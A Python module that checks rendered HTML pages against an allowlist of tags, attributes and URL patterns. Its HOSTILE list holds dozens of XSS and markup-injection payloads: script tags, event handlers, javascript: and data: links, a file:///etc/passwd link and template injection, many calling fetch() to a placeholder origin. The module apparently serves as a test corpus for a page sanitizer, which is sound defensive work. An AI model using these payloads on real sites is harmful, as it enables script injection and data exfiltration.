"""Reads a page as a browser does, and judges whether all that is on it is ours."""

from __future__ import annotations

import re
from html.parser import HTMLParser

NAMES = """
a article aside b blockquote body br code dd del details div dl dt em footer h1 h2 h3 h4 h5 h6 head
header hr html img input label li main meta nav ol p pre s section span strong style summary table
tbody td th thead time title tr ul
"""
ELEMENTS = {*NAMES.split()}
VOID = {"br", "hr", "img", "input", "meta"}
ATTRIBUTES = {
    "*": {"id", "class", "title", "lang", "aria-label"},
    "a": {"href", "rel"},
    "details": {"open"},
    "html": {"lang"},
    "img": {"src", "alt", "loading"},
    "input": {"type", "name", "checked"},
    "label": {"for"},
    "meta": {"charset", "name", "content", "http-equiv"},
    "ol": {"start"},
    "td": {"style", "colspan"},
    "th": {"style"},
    "time": {"datetime"},
}
LINK = re.compile(r"#[A-Za-z0-9_-]*|https?://\S+|mailto:\S+", re.IGNORECASE)
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp|avif);base64,[A-Za-z0-9+/]+={0,2}")
ALIGNED = re.compile(r"text-align:(?:left|right|center)")


class PageReader(HTMLParser):
    """Keeps what a page has, and what of it no page of ours may have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.ids: list[str] = []
        self.links: list[str] = []
        self.open: list[str] = []
        self.texts: list[str] = []
        self.elements: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge an element and its attributes."""
        self.elements.append(tag)
        if tag not in ELEMENTS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            self.attribute(tag, name, value or "")
        if tag not in VOID:
            self.open.append(tag)

    def attribute(self, tag: str, name: str, value: str) -> None:
        """Judge an attribute."""
        if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()):
            self.wrong.append(f"<{tag} {name}={value!r}>")
        if name == "id":
            self.ids.append(value)
        if name == "href":
            self.links.append(value)
        pattern = {"href": LINK, "src": PICTURE, "style": ALIGNED}.get(name)
        if pattern and not pattern.fullmatch(value):
            self.wrong.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and name == "href" and value[:1] != "#":
            self.elements.append("a leads out")

    def handle_endtag(self, tag: str) -> None:
        """Judge whether the element is the one that is open."""
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        """Keep a text."""
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        """No page has a comment."""
        self.wrong.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        """Nor an instruction."""
        self.wrong.append(f"<?{data}>")


def read_page(page: str) -> PageReader:
    """Return what is on a page, or on a piece of one, after asserting that all of it may be."""
    reader = PageReader()
    reader.feed(page)
    reader.close()
    assert reader.wrong == []
    assert reader.open == []
    assert len(reader.ids) == len({*reader.ids})
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)
    page.encode()
    return reader


HOSTILE = [
    "<script>fetch('{origin}/1')</script>",
    "<SCRIPT SRC={origin}/2></SCRIPT>",
    "</pre></code></div></article></main></body><script>fetch('{origin}/3')</script>",
    "</summary></details><iframe src='{origin}/4'></iframe>",
    "</style><script>fetch('{origin}/5')</script><style>@import '{origin}/6';",
    "<img src=x onerror=\"fetch('{origin}/7')\">",
    "<img src={origin}/8.png><picture><source srcset={origin}/9></picture>",
    "<svg onload=fetch('{origin}/10')><use href='{origin}/11#x'/></svg>",
    "<svg><style>@import url({origin}/12)</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fetch('{origin}/13')>",
    "<a href='javascript:fetch(`{origin}/14`)'>x</a>",
    "[x](javascript:fetch('{origin}/15')) [y](JaVaScRiPt:alert) [z](java&#x73;cript:alert(1))",
    "[x](data:text/html,<script>fetch('{origin}/16')</script>) <data:text/html,x>",
    "[x](vbscript:x) [y](file:///etc/passwd) <javascript:fetch('{origin}/17')>",
    "![x]({origin}/18.png) ![y][z]\n\n[z]: {origin}/19.png 'title'",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](\" onerror=fetch('{origin}/20') x=\")",
    "[x](https://a.example/\"onmouseover=fetch('{origin}/21')) [y](<https://b.example/ onclick=x>)",
    "https://a.example/\"><script>fetch('{origin}/22')</script>",
    "```html\" onload=fetch('{origin}/23')\n<script>fetch('{origin}/24')</script>\n```",
    "`<script>fetch('{origin}/25')</script>`",
    '```"><script>\nx',
    "~~~python\nprint('<script>')  # </span><script>fetch('{origin}/26')</script>",
    "<!-- <script>-->fetch('{origin}/27')</script>",
    "<![CDATA[<script>]]> <?php x ?> <!DOCTYPE x>",
    "<style>*{{background:url({origin}/28)}}</style><link rel=stylesheet href={origin}/29>",
    "<meta http-equiv=refresh content='0;url={origin}/30'><base href={origin}/>",
    "<form action={origin}/31><input autofocus onfocus=fetch('{origin}/32')></form>",
    "<video src={origin}/33 autoplay></video><object data={origin}/34></object>",
    "<details open ontoggle=fetch('{origin}/35')><summary>x",
    "<input type=radio checked><label for=m1>x</label>",
    "{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} {{{{ self.__init__.__globals__ }}}}",
    "| a | b |\n|:-|-:|\n| <b onclick=x> | `|` <i>\n",
    "<b>unclosed <i>markup <table><tr><td> \" ' ` = >",
    "# <h1 onclick=x>\n\n<div\n\nonload=x>\n\n> <q\n>\n> - <u\n",
    "\u202etpircs\u202c \u2066x\u2069 \u2028y\u2029 \ufeff",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b31m \x00 \x08\x7f \r\n\r",
    "\ud800 \udfff \ufffe \uffff",
    "+ADw-script+AD4- %3Cscript%3E &lt;script&gt; &#60;script&#62; \\u003cscript\\u003e",
    "[" * 500 + "x" + "](y)" * 500,
    "> " * 300 + "deep",
    "*" * 999 + "_" * 999,
    "&" * 20 + "&#0; &#x202e; &#x1b; &#xd800; &NewLine;",
    "[x]: <javascript:alert(1)>\n\n[x]",
    '<https://a.example/<script>> <x@y.example"onclick=z>',
    "1. <li onclick=x>\n999999999. y\n- [ ] <input>\n- [x] z\n",
]
"""Texts that try to act on a page; ``{origin}`` stands for where a request of theirs would go."""


def list_hostile_texts(origin: str) -> list[str]:
    """Return the texts with an origin in them."""
    return [each.format(origin=origin) for each in HOSTILE]
